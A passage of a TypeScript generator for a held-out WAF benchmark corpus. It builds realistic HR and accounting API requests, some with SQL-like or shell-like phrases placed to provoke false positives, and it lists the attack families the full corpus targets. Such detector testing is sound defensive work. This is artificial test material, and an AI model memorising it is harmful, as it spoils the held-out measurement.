// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 9 — written BLIND: its author read no gateway source, docs, tests, earlier corpora or
 * measurement code; only the `CorpusRequest` type is shared. It measures false positives on realistic API
 * traffic and detection of realistic API attacks.
 *
 * Domains (clean traffic): HR / recruiting, fintech / accounting, smart-home / IoT hub, news / publishing CMS,
 * travel booking, developer-tools SaaS (error tracking, logs, feature flags, API keys), legal / contracts and
 * a gaming platform.
 *
 * Clean kinds: rest-write, merge-patch, json-patch, jsonapi, graphql, delete, search, form, multipart, ndjson,
 * webhook, cms-html, code, prose, i18n.
 *
 * Attack families: sql, nosql, template, command, path-traversal, ssrf, prototype-pollution, log4shell, xss.
 * Attack techniques: plain, nested, key, array, unicode-escape, json-in-string, base64, graphql-variable,
 * double-encoded, query-param, header, cookie, form, multipart, embedded.
 *
 * Run as a script to (re)write `clean-heldout9.json` and `attacks-heldout9.json` beside this file.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorpusRequest } from './generate.ts';

/** Field paths an API owner would exclude from inspection because they carry code or markup by design. */
export const HELDOUT9_EXCLUDE_FIELDS: string[] = [
  'body.article.body_html',
  'body.exception.values[].stacktrace.frames[].context_line',
];

// ---------------------------------------------------------------------------------------------------------
// Deterministic randomness
// ---------------------------------------------------------------------------------------------------------

/** mulberry32: tiny seeded PRNG returning floats in [0, 1). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x9a17_0909);

function pick<T>(xs: readonly T[]): T {
  return xs[Math.floor(rand() * xs.length)] as T;
}

function int(lo: number, hi: number): number {
  return lo + Math.floor(rand() * (hi - lo + 1));
}

function hex(n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rand() * 16)];
  return s;
}

function alnum(n: number): string {
  const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  let s = '';
  for (let i = 0; i < n; i++) s += abc[Math.floor(rand() * abc.length)];
  return s;
}

function uuid(): string {
  return `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}

function jwt(sub: string): string {
  const head = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: hex(8) }));
  const iat = 1_795_000_000 + int(0, 9_000_000);
  const claims = b64url(JSON.stringify({ sub, iat, exp: iat + 3600, scope: 'read write' }));
  return `${head}.${claims}.${alnum(43)}`;
}

function day(): string {
  return `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
}

function stamp(): string {
  return `${day()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(
    int(0, 59),
  ).padStart(2, '0')}Z`;
}

/** Query string the way browsers (URLSearchParams / form encoding) build it. */
function qs(params: Record<string, string | number>): string {
  const u = new URLSearchParams();
  for (const [k, v] of Object.entries(params)) u.append(k, String(v));
  return u.toString();
}

/** Query string the way most SDKs build it (encodeURIComponent, %20 for spaces). */
function qsc(params: Record<string, string | number>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
}

// ---------------------------------------------------------------------------------------------------------
// Clients and sites
// ---------------------------------------------------------------------------------------------------------

type Client =
  | 'chrome'
  | 'firefox'
  | 'safari'
  | 'edge'
  | 'ios'
  | 'android'
  | 'python'
  | 'node'
  | 'go'
  | 'curl';

const UA: Record<Client, string[]> = {
  chrome: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  ],
  firefox: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0',
    'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
  ],
  safari: [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1',
  ],
  edge: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0',
  ],
  ios: [
    '{app}/5.12.1 (iPhone15,3; iOS 26.1; Scale/3.00)',
    '{app}/5.11.0 (iPad13,4; iPadOS 18.6; Scale/2.00)',
  ],
  android: [
    'okhttp/4.12.0',
    '{app}-android/8.3.0 (Pixel 9; Android 16)',
    'Dalvik/2.1.0 (Linux; U; Android 15; SM-S928B)',
  ],
  python: ['python-requests/2.32.5', 'python-httpx/0.28.1', '{app}-python/3.4.0'],
  node: [
    'axios/1.13.2',
    'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
    'undici',
    '{app}-node/2.9.1',
  ],
  go: ['Go-http-client/2.0', 'Go-http-client/1.1', '{app}-go/1.7.0'],
  curl: ['curl/8.11.1', 'curl/8.5.0', 'HTTPie/3.2.4'],
};

const BROWSERS: Client[] = ['chrome', 'chrome', 'chrome', 'firefox', 'safari', 'edge'];
const APPS: Client[] = ['ios', 'android'];
const SDKS: Client[] = ['python', 'node', 'go', 'curl'];

interface Site {
  readonly app: string;
  readonly origin: string;
  readonly cookie: string;
}

const HR: Site = { app: 'Hirely', origin: 'https://app.hirely.io', cookie: 'hirely_session' };
const FIN: Site = { app: 'Ledgerly', origin: 'https://books.ledgerly.com', cookie: '__Host-ledgerly_sid' };
const IOT: Site = { app: 'HomeNest', origin: 'https://my.homenest.app', cookie: 'hn_sess' };
const CMS: Site = { app: 'Newsdesk', origin: 'https://desk.dailyharbor.news', cookie: 'nd_auth' };
const TRV: Site = { app: 'Wayfare', origin: 'https://www.wayfare.travel', cookie: 'wf_sid' };
const DEV: Site = { app: 'Tracewell', origin: 'https://app.tracewell.dev', cookie: 'tw_session' };
const LAW: Site = { app: 'Clausebook', origin: 'https://app.clausebook.law', cookie: 'cb_sid' };
const GAME: Site = { app: 'Fragline', origin: 'https://play.fragline.gg', cookie: 'fl_token' };

const LANGS = [
  'en-US,en;q=0.9',
  'en-GB,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7',
  'es-ES,es;q=0.9',
  'ja,en-US;q=0.9,en;q=0.8',
  'pt-BR,pt;q=0.9,en;q=0.8',
];

/** Realistic request headers for a client of a site. */
function hdrs(
  site: Site,
  client: Client,
  method: string,
  extra: Record<string, string> = {},
): Record<string, string> {
  const ua = pick(UA[client]).replace('{app}', site.app);
  const h: Record<string, string> = {};
  h['user-agent'] = ua;
  if (BROWSERS.includes(client)) {
    h['accept'] = 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    h['accept-encoding'] = 'gzip, deflate, br, zstd';
    if (method !== 'GET') h['origin'] = site.origin;
    h['referer'] = `${site.origin}/${pick(['dashboard', 'inbox', 'settings', 'editor', 'overview', 'list'])}`;
    h['sec-fetch-site'] = 'same-site';
    h['sec-fetch-mode'] = 'cors';
    h['sec-fetch-dest'] = 'empty';
    h['cookie'] =
      `${site.cookie}=${alnum(32)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1790000000)}`;
    if (method !== 'GET' && rand() < 0.6) h['x-csrf-token'] = alnum(40);
  } else {
    h['accept'] = client === 'curl' ? '*/*' : 'application/json';
    h['accept-encoding'] = 'gzip';
    h['authorization'] = `Bearer ${rand() < 0.5 ? jwt(`usr_${alnum(10)}`) : `sk_live_${alnum(32)}`}`;
    if (APPS.includes(client)) h['x-app-build'] = String(int(4000, 9000));
  }
  if (rand() < 0.55) h['x-request-id'] = uuid();
  return { ...h, ...extra };
}

/** Multipart body; browsers use WebKit-style boundaries, tools use their own. */
interface Part {
  readonly name: string;
  readonly value: string;
  readonly filename?: string;
  readonly type?: string;
}

function multipart(parts: readonly Part[], client: Client): { ct: string; body: string } {
  const boundary =
    client === 'curl'
      ? `------------------------${hex(16)}`
      : client === 'python'
        ? hex(32)
        : client === 'firefox'
          ? `----geckoformboundary${hex(32)}`
          : `----WebKitFormBoundary${alnum(16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\n`;
    body += `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n`;
    if (p.type !== undefined) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

/** A short PNG-looking byte string (signature, IHDR, a few IDAT bytes) as latin1 characters. */
function pngBytes(): string {
  const bytes = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52];
  bytes.push(0, 0, 0, int(16, 255), 0, 0, 0, int(16, 255), 8, 6, 0, 0, 0);
  for (let i = 0; i < 48; i++) bytes.push(int(0, 255));
  bytes.push(0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82);
  return String.fromCharCode(...bytes);
}

/** A minimal PDF-looking text document. */
function pdfText(lines: readonly string[]): string {
  const stream = lines.map(
    (l, i) => `BT /F1 11 Tf 72 ${720 - i * 14} Td (${l.replace(/[()\\]/g, '\\$&')}) Tj ET`,
  );
  return [
    '%PDF-1.7',
    '%âãÏÓ',
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj',
    `4 0 obj << /Length ${stream.join('\n').length} >> stream`,
    ...stream,
    'endstream endobj',
    'trailer << /Root 1 0 R >>',
    '%%EOF',
  ].join('\n');
}

// ---------------------------------------------------------------------------------------------------------
// Clean request helpers
// ---------------------------------------------------------------------------------------------------------

const clean: CorpusRequest[] = [];

function addClean(
  kind: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body: string,
): void {
  clean.push({ id: `h9c${clean.length + 1}`, kind, method, path, headers, body });
}

/** Replace the last clean request with a copy whose headers the caller may edit (webhook signatures etc.). */
function editLast(): { headers: Record<string, string> } {
  const last = clean[clean.length - 1]!;
  const headers: Record<string, string> = { ...last.headers };
  clean[clean.length - 1] = { ...last, headers };
  return { headers };
}

/** JSON write (or any JSON-ish media type). */
function sendJson(
  kind: string,
  site: Site,
  clients: readonly Client[],
  method: string,
  path: string,
  obj: unknown,
  ct = 'application/json',
): void {
  const client = pick(clients);
  const extra: Record<string, string> = { 'content-type': ct };
  if (ct === 'application/vnd.api+json') extra['accept'] = 'application/vnd.api+json';
  addClean(kind, method, path, hdrs(site, client, method, extra), JSON.stringify(obj));
}

function sendGet(kind: string, site: Site, clients: readonly Client[], path: string): void {
  addClean(kind, 'GET', path, hdrs(site, pick(clients), 'GET'), '');
}

function sendDelete(site: Site, clients: readonly Client[], path: string): void {
  addClean('delete', 'DELETE', path, hdrs(site, pick(clients), 'DELETE'), '');
}

function sendForm(
  kind: string,
  site: Site,
  clients: readonly Client[],
  path: string,
  fields: Record<string, string>,
): void {
  const client = pick(clients);
  addClean(
    kind,
    'POST',
    path,
    hdrs(site, client, 'POST', { 'content-type': 'application/x-www-form-urlencoded' }),
    qs(fields),
  );
}

function sendMultipart(
  site: Site,
  clients: readonly Client[],
  path: string,
  parts: readonly Part[],
  kind = 'multipart',
): void {
  const client = pick(clients);
  const mp = multipart(parts, client);
  addClean(kind, 'POST', path, hdrs(site, client, 'POST', { 'content-type': mp.ct }), mp.body);
}

function sendGraphql(
  site: Site,
  clients: readonly Client[],
  operationName: string,
  query: string,
  variables: unknown,
): void {
  sendJson('graphql', site, clients, 'POST', '/graphql', { operationName, query, variables });
}

function sendGraphqlGet(
  site: Site,
  clients: readonly Client[],
  operationName: string,
  query: string,
  variables: unknown,
): void {
  const path = `/graphql?${qsc({ operationName, query, variables: JSON.stringify(variables) })}`;
  sendGet('graphql', site, clients, path);
}

function sendNdjson(site: Site, clients: readonly Client[], path: string, rows: readonly unknown[]): void {
  const client = pick(clients);
  const body = rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
  addClean(
    'ndjson',
    'POST',
    path,
    hdrs(site, client, 'POST', { 'content-type': 'application/x-ndjson' }),
    body,
  );
}

// ---------------------------------------------------------------------------------------------------------
// Domain 1: HR / recruiting (Hirely)
// ---------------------------------------------------------------------------------------------------------

function hrClean(): void {
  const jobs: [string, string, string][] = [
    [
      'Senior Data Engineer',
      'Data Platform',
      "<h2>About the role</h2><p>You will own our ingestion pipelines (Kafka → Spark → Snowflake) and help analysts stop writing <code>SELECT *</code> against production.</p><h3>What you'll do</h3><ul><li>Design and maintain dbt models and incremental loads</li><li>Tune slow queries — think window functions, <em>UNION ALL</em> vs <em>UNION</em>, and sensible <code>ORDER BY</code> usage</li><li>Be on call one week in six</li></ul><h3>You have</h3><ul><li>5+ years of SQL &amp; Python</li><li>Experience with Airflow or Dagster</li></ul><p><strong>Salary:</strong> €85,000 – €105,000 + equity</p>",
    ],
    [
      'Site Reliability Engineer (Linux)',
      'Infrastructure',
      '<p>We run ~400 Debian hosts and a handful of Kubernetes clusters. Day to day you might <code>ssh</code> into a box, <code>cat /var/log/syslog</code>, or write an Ansible role that finally removes the last <code>curl | bash</code> from our bootstrap scripts.</p><ol><li>Terraform, Ansible, Bash</li><li>Prometheus / Grafana</li><li>Comfortable being root without being reckless</li></ol><p>Remote within UTC-1 to UTC+3.</p>',
    ],
    [
      'Frontend Engineer — Design Systems',
      'Product Engineering',
      '<p>Help us build accessible components in React &amp; TypeScript. You care about <abbr title="Web Content Accessibility Guidelines">WCAG</abbr> 2.2, know why <code>&lt;div onClick&gt;</code> is not a button, and can explain <code>useEffect</code> cleanup to a junior.</p><p><a href="https://careers.hirely.io/benefits" target="_blank" rel="noopener">See our benefits</a></p>',
    ],
    [
      'Payroll Specialist (m/w/d)',
      'People Ops',
      '<p><span style="font-size: 14pt;"><strong>Your tasks</strong></span></p><ul><li>Monthly payroll for 350 employees across DE/AT/CH</li><li>Coordination with tax advisors &amp; auditors</li><li>Maintaining employee master data in DATEV / SAP HCM</li></ul><p>Excel skills (VLOOKUP, pivot tables) are a must; basic SQL is a plus.</p>',
    ],
    [
      'Customer Support Lead, Night Shift',
      'Support',
      '<p>Lead a team of 8 handling tickets from 22:00 to 06:00 CET. You will escalate incidents, update the status page, and <u>never</u> promise a fix date you can\'t keep.</p><table style="border-collapse: collapse; width: 100%;"><tbody><tr><td>Shift</td><td>Sun–Thu, 22:00–06:00</td></tr><tr><td>Allowance</td><td>+25% night premium</td></tr></tbody></table>',
    ],
    [
      'Security Engineer, Application Security',
      'Security',
      '<p>Partner with product teams on threat modelling, code review and our bug bounty. Familiarity with the OWASP Top 10 (injection, broken access control, SSRF) and tools like Burp Suite or Semgrep is expected.</p><ul><li>Triage reports from researchers</li><li>Write secure-by-default libraries</li></ul>',
    ],
  ];
  for (const [title, department, html] of jobs) {
    sendJson('cms-html', HR, BROWSERS, 'POST', '/v1/jobs', {
      title,
      department,
      location: pick(['Berlin, DE', 'Remote (EU)', 'Austin, TX', 'London, UK', 'Lisbon, PT']),
      employment_type: pick(['full_time', 'part_time', 'contract']),
      description_html: html,
      hiring_manager_id: `usr_${alnum(10)}`,
      publish: rand() < 0.5,
    });
  }

  const notes = [
    "Phone screen went well. She walked me through a query using a CTE and a UNION, then explained why she'd drop the ORDER BY inside the subquery. Moving to onsite.",
    "Candidate asked whether we still run everything as root on the build agents (we don't, but good question!). Strong infra background.",
    'Salary expectation is 95k-100k; current notice period 3 months (may be negotiable). Prefers hybrid, 2 days/week in office.',
    'Reference check w/ former manager: "reliable, a bit quiet in meetings, great at cleaning up legacy cron jobs & shell scripts".',
    'Note to self: update the scorecard — the "select candidates for panel" step is blocked until Priya confirms availability.',
    "He mentioned he was let go during the 2024 layoffs; no performance concerns per his reference. Please don't bring it up on the panel.",
    "Rescheduled (again) because of a family emergency. Let's be flexible; offer Tue or Wed afternoon.",
    'Portfolio link is broken (404) — asked her to resend. Code sample on GitHub looks solid: uses parameterised queries, no string concatenation into SQL.',
    'Declined our offer; went with a competitor at +15%. Tag as "silver medalist" and re-engage in Q3?',
    "Interviewed for the <Senior> role but I think she's a better fit for Staff. Leveling discussion needed before we send anything.",
    'Candidate uses they/them pronouns. Make sure the interview panel is aware & the offer letter is correct.',
    'Background check cleared. Start date 2026-03-02; laptop request submitted (MacBook Pro 14", 32GB).',
  ];
  for (const n of notes) {
    sendJson('prose', HR, BROWSERS, 'POST', `/v1/candidates/cand_${alnum(12)}/notes`, {
      body: n,
      visibility: pick(['hiring_team', 'private', 'everyone']),
      mentions: rand() < 0.3 ? [`usr_${alnum(10)}`] : [],
    });
  }

  const feedback: [string, string, string][] = [
    [
      'strong_yes',
      'Excellent system design round. Proposed a queue-based approach, handled backpressure, and knew when to say "I don\'t know".',
      'Communication',
    ],
    [
      'no',
      "Struggled with the SQL exercise: wrote SELECT name FROM employees WHERE dept = 'Sales' OR 1 without realising it returns everything. Didn't test edge cases.",
      'Technical depth',
    ],
    [
      'yes',
      'Good culture add. Asked thoughtful questions about on-call & how we handle incidents (blameless postmortems).',
      'Collaboration',
    ],
    [
      'lean_no',
      "Knew the theory but couldn't debug a failing `curl -X POST` against our sandbox; kept guessing at headers instead of reading the 401 body.",
      'Problem solving',
    ],
    [
      'yes',
      'Take-home was clean. Minor nit: used eval() to parse the config file; we discussed JSON.parse instead and he agreed immediately.',
      'Code quality',
    ],
  ];
  for (const [rec, summary, attr] of feedback) {
    sendJson('rest-write', HR, BROWSERS, 'POST', `/v1/interviews/int_${alnum(10)}/feedback`, {
      recommendation: rec,
      summary,
      scorecard: [
        { attribute: attr, score: int(1, 4), note: '' },
        {
          attribute: 'Role-specific skills',
          score: int(1, 4),
          note: pick(['See summary', 'n/a', 'Solid', '']),
        },
      ],
      submitted_at: stamp(),
    });
  }

  const codeSamples: [string, string][] = [
    [
      'sql',
      'SELECT d.name, COUNT(*) AS headcount\nFROM employees e\nJOIN departments d ON d.id = e.dept_id\nWHERE e.terminated_at IS NULL\nGROUP BY d.name\nHAVING COUNT(*) > 10\nORDER BY headcount DESC;',
    ],
    [
      'python',
      'def dedupe(rows):\n    seen = set()\n    for r in rows:\n        key = (r["email"].lower(), r.get("phone"))\n        if key in seen:\n            continue\n        seen.add(key)\n        yield r',
    ],
    [
      'bash',
      '#!/usr/bin/env bash\nset -euo pipefail\nfor f in logs/*.gz; do\n  zcat "$f" | grep -c "ERROR" || true\ndone | sort -n | tail -1',
    ],
  ];
  for (const [lang, code] of codeSamples) {
    sendJson('code', HR, BROWSERS, 'POST', `/v1/interviews/int_${alnum(10)}/artifacts`, {
      type: 'code_sample',
      language: lang,
      content: code,
      comment: pick(['Live coding, 25 min', 'From the pairing exercise', "Candidate's final answer"]),
    });
  }

  const parsed = [
    { name: 'María José Fernández', skills: ['SQL', 'Power BI', 'DAX', 'Excel'], title: 'BI Analyst' },
    { name: 'Oluwaseun Adeyemi', skills: ['Go', 'Kubernetes', 'Bash', 'gRPC'], title: 'Backend Engineer' },
    { name: 'Zhang Wei (张伟)', skills: ['C++', 'CUDA', 'Linux', 'Python'], title: 'GPU Engineer' },
  ];
  for (const p of parsed) {
    sendJson('rest-write', HR, ['python', 'go'], 'POST', '/v1/integrations/resume-parser/results', {
      document_id: `doc_${alnum(16)}`,
      status: 'parsed',
      candidate: {
        full_name: p.name,
        emails: [
          `${p.name
            .split(' ')[0]!
            .toLowerCase()
            .normalize('NFD')
            .replace(/[^a-z]/g, '')}@example.com`,
        ],
        current_title: p.title,
        skills: p.skills,
        experience: [
          {
            company: 'Acme Corp',
            title: p.title,
            start: '2021-04',
            end: null,
            summary: 'Built reports & dashboards; migrated cron jobs to Airflow.',
          },
        ],
      },
      confidence: Number(rand().toFixed(2)),
    });
  }

  const mp1 = pdfText([
    'Jane Doe - Curriculum Vitae',
    'Skills: SQL, Python, Bash, Terraform',
    'Experience: Admin of 200+ Linux servers',
  ]);
  sendMultipart(HR, BROWSERS, '/v1/resumes/parse', [
    { name: 'file', value: mp1, filename: 'Jane_Doe_CV_2026.pdf', type: 'application/pdf' },
    { name: 'job_id', value: `job_${alnum(10)}` },
  ]);
  sendMultipart(HR, BROWSERS, '/v1/candidates/import', [
    {
      name: 'file',
      filename: 'career-fair-leads.csv',
      type: 'text/csv',
      value:
        'first_name,last_name,email,notes\nLena,Schmidt,lena.s@example.de,"Interested in data roles; knows SQL & R"\nTomás,Ó Briain,tomas@example.ie,"Asked about visa sponsorship"\nAisha,Khan,aisha.khan@example.com,"Follow up after 3/15"\n',
    },
    { name: 'source', value: 'TU Munich career fair' },
  ]);
  sendMultipart(HR, APPS, '/v1/me/avatar', [
    { name: 'avatar', value: pngBytes(), filename: 'IMG_2231.png', type: 'image/png' },
  ]);
  sendMultipart(HR, BROWSERS, `/v1/candidates/cand_${alnum(12)}/attachments`, [
    {
      name: 'file',
      filename: 'cover-letter.txt',
      type: 'text/plain',
      value:
        "Dear hiring team,\n\nI'm applying for the SRE role. At my current job I cut our deploy time from 40 to 6 minutes by replacing a tangle of shell scripts (yes, including one that piped wget into sh) with a proper pipeline.\n\nBest,\nSam",
    },
  ]);

  const searches = [
    { q: '"data engineer" AND (Berlin OR remote) NOT intern', stage: 'applied' },
    { q: 'skills:sql skills:python -recruiter', stage: 'any' },
    { q: 'react* AND typescript', stage: 'screen' },
    { q: 'name:"O\'Brien"', stage: 'any' },
    { q: 'source:linkedin tag:silver-medalist', stage: 'rejected' },
  ];
  for (const s of searches)
    sendGet('search', HR, BROWSERS, `/v1/candidates?${qs({ ...s, sort: '-updated_at', page: int(1, 3) })}`);

  sendForm('form', HR, BROWSERS, '/careers/apply', {
    job_id: `job_${alnum(10)}`,
    full_name: 'Chidi Okafor',
    email: 'chidi.okafor@example.com',
    phone: '+44 7700 900123',
    linkedin: 'https://www.linkedin.com/in/chidi-okafor/',
    cover_letter:
      'I have 6 years of experience with Postgres (including tuning queries with EXPLAIN ANALYZE) & would love to join. Salary: 70-80k; available from 1/4.',
    consent: 'on',
  });
  sendForm('form', HR, BROWSERS, '/careers/unsubscribe', {
    email: 'ana+jobs@example.org',
    reason: 'Found a job, thanks!',
  });

  sendJson(
    'merge-patch',
    HR,
    BROWSERS,
    'PATCH',
    `/v1/jobs/job_${alnum(10)}`,
    { status: 'closed', closed_reason: 'filled' },
    'application/merge-patch+json',
  );
  sendJson(
    'merge-patch',
    HR,
    BROWSERS,
    'PATCH',
    `/v1/jobs/job_${alnum(10)}`,
    { salary_range: { min: 90000, max: 115000, currency: 'EUR' }, remote: null },
    'application/merge-patch+json',
  );
  sendJson(
    'json-patch',
    HR,
    BROWSERS,
    'PATCH',
    `/v1/candidates/cand_${alnum(12)}`,
    [
      { op: 'replace', path: '/stage', value: 'onsite' },
      { op: 'add', path: '/tags/-', value: 'referral' },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'json-patch',
    HR,
    BROWSERS,
    'PATCH',
    `/v1/candidates/cand_${alnum(12)}`,
    [
      { op: 'test', path: '/version', value: 7 },
      { op: 'remove', path: '/tags/2' },
      { op: 'replace', path: '/owner_id', value: `usr_${alnum(10)}` },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'jsonapi',
    HR,
    BROWSERS,
    'POST',
    '/v1/applications',
    {
      data: {
        type: 'applications',
        attributes: {
          source: 'referral',
          answers: [{ question: 'Why us?', answer: 'Your eng blog post about deleting 40% of your code.' }],
        },
        relationships: {
          job: { data: { type: 'jobs', id: alnum(8) } },
          candidate: { data: { type: 'candidates', id: alnum(8) } },
        },
      },
    },
    'application/vnd.api+json',
  );
  sendDelete(HR, BROWSERS, `/v1/candidates/cand_${alnum(12)}/notes/note_${alnum(8)}`);
  sendDelete(HR, SDKS, `/v1/webhooks/wh_${alnum(12)}`);
  sendGraphql(
    HR,
    BROWSERS,
    'PipelineBoard',
    'query PipelineBoard($jobId: ID!, $first: Int = 50) {\n  job(id: $jobId) {\n    title\n    stages { name candidates(first: $first) { edges { node { id fullName rating } } } }\n  }\n}',
    { jobId: `job_${alnum(10)}` },
  );
  sendGraphql(
    HR,
    BROWSERS,
    'MoveCandidate',
    'mutation MoveCandidate($input: MoveCandidateInput!) {\n  moveCandidate(input: $input) { candidate { id stage } errors { field message } }\n}',
    {
      input: {
        candidateId: `cand_${alnum(12)}`,
        toStage: 'offer',
        note: 'Approved by comp committee (band L5).',
      },
    },
  );
  sendGraphqlGet(
    HR,
    BROWSERS,
    'JobsCount',
    'query JobsCount($status: JobStatus) { jobsCount(status: $status) }',
    { status: 'OPEN' },
  );

  const i18n = [
    'Kandidatin spricht fließend Deutsch und Englisch; Gehaltsvorstellung 72 T€ – „verhandelbar".',
    '候補者は日本語ネイティブ、英語はビジネスレベル。来週の火曜日に最終面接を設定済み。',
    'المرشحة لديها خبرة 7 سنوات في إدارة الموارد البشرية، وتفضل العمل عن بُعد.',
    'Кандидат отлично справился с задачей на SQL, но опоздал на 10 минут 🙈',
  ];
  for (const t of i18n) {
    sendJson('i18n', HR, BROWSERS, 'POST', `/v1/candidates/cand_${alnum(12)}/notes`, {
      body: t,
      visibility: 'hiring_team',
    });
  }

  const mp = {
    AccountSid: `AC${hex(32)}`,
    MessageSid: `SM${hex(32)}`,
    From: '+4915112345678',
    To: '+4930901820',
  };
  sendForm('webhook', HR, ['python'], '/hooks/twilio/sms', {
    ...mp,
    Body: 'Hi, yes Thursday 3pm works for me! Should I bring anything? (ID, portfolio?)',
    NumMedia: '0',
    SmsStatus: 'received',
    ApiVersion: '2010-04-01',
  });
  sendNdjson(HR, ['python'], '/v1/bulk/candidates', [
    { email: 'r.ito@example.jp', first_name: '玲', last_name: '伊藤', tags: ['bootcamp-2026'] },
    { email: 'j.smith@example.com', first_name: 'John', last_name: 'Smith-Jones', tags: [] },
    { email: 'n.dubois@example.fr', first_name: 'Noémie', last_name: 'Dubois', tags: ['referral', 'fr'] },
  ]);
}

// ---------------------------------------------------------------------------------------------------------
// Domain 2: fintech / accounting (Ledgerly)
// ---------------------------------------------------------------------------------------------------------

function finClean(): void {
  const lines: [string, number, number][] = [
    ['Consulting — API integration (40h @ €95)', 40, 95],
    ['Hosting: 3x c6g.large, October', 3, 61.2],
    ['Travel: Berlin → Munich (ICE, 2nd class)', 1, 139.9],
    ['"Select" plan subscription, annual', 1, 1188],
    ['Workshop: drop-in session / Q&A', 2, 450],
    ['Licence: 25 seats @ $12/user/mo', 25, 12],
  ];
  for (let i = 0; i < 5; i++) {
    const items = [pick(lines), pick(lines)].map(([description, quantity, unit_price]) => ({
      description,
      quantity,
      unit_price,
    }));
    sendJson('rest-write', FIN, [...BROWSERS, 'python', 'node'], 'POST', '/api/v2/invoices', {
      customer_id: `cus_${alnum(14)}`,
      currency: pick(['EUR', 'USD', 'GBP', 'CHF']),
      issue_date: day(),
      due_in_days: pick([14, 30, 45]),
      line_items: items,
      notes: pick([
        'Payment by bank transfer to IBAN DE89 3704 0044 0532 0130 00. Please quote invoice # in the reference.',
        'Thank you for your business! Late payments incur 1.5% interest/month.',
        'PO #4471-B; deliver to "Receiving, Dock 3".',
        '',
        'Reverse charge – VAT to be accounted for by the recipient (Art. 196 Directive 2006/112/EC).',
      ]),
    });
  }

  const expenseNotes = [
    'Client dinner w/ Acme (4 people) — ordered the tasting menu; receipt is a bit blurry, sorry.',
    'Uber from airport to hotel at 1am; flight delayed 3h (see attached email from the airline).',
    'Bought a USB-C hub & HDMI cable because the conference room adapter was missing... again.',
    'Team offsite: select wines for the evening (approved by Marta in #finance, see thread).',
    'Parking at SFO, 3 days @ $40/day = $120. Cheaper than 2x Lyft.',
    'Splitting this one 50/50 between cost centers 4100 and 4200 — it was a joint event.',
    'Please reimburse via payroll, not bank transfer; my account details changed (updated in Workday).',
    'Coffee for the interview panel (x6) ☕ — small but adding it for completeness.',
    'Hotel charged a "resort fee" I didn\'t know about; disputing it, will update if refunded.',
    'Duplicate of EXP-2231? No — that one was the deposit, this is the final balance.',
  ];
  for (const n of expenseNotes) {
    sendJson('prose', FIN, [...BROWSERS, ...APPS], 'POST', '/api/v2/expense-reports', {
      employee_id: `emp_${alnum(8)}`,
      title: pick(['Q4 travel', 'Client visit', 'Conference', 'Misc', 'Offsite']),
      items: [
        {
          date: day(),
          amount: Number((rand() * 300 + 5).toFixed(2)),
          category: pick(['meals', 'travel', 'lodging', 'equipment']),
          note: n,
        },
      ],
    });
  }

  const rules = [
    {
      name: 'AWS invoices → Hosting',
